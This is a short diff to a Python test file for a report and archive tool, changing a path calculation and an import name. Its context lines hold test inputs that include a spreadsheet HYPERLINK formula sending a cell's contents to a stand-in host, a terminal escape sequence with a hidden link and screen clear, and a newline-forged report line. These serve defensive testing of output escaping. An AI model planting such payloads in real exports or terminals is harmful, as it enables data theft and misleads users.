@@ -16,7 +16,7 @@ from jumbo.archive.stores import open_store
 from jumbo.report import cli
 from jumbo.report.render import to_csv, to_text
 
-ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ESCAPE = "\x1b]8;;http://evil.example\x07site\x1b[2J"
 FORGED = "SITE-C\nBlack holes: fix these first (0)"
@@ -122,7 +122,7 @@ def test_login_from_a_file_or_the_environment(tmp_path, monkeypatch):
 
 def test_replay_takes_the_login_from_a_file(tmp_path, opensearch_url):
     """jumbo-replay --auth-file against a proxy that demands the login (a real OpenSearch)."""
-    from test_archiver import FrontProxy
+    from test_archive_archiver import FrontProxy
     proxy = FrontProxy(opensearch_url, "writer", "s3cret")
     auth = tmp_path / "auth"
     auth.write_text("writer:s3cret\n")
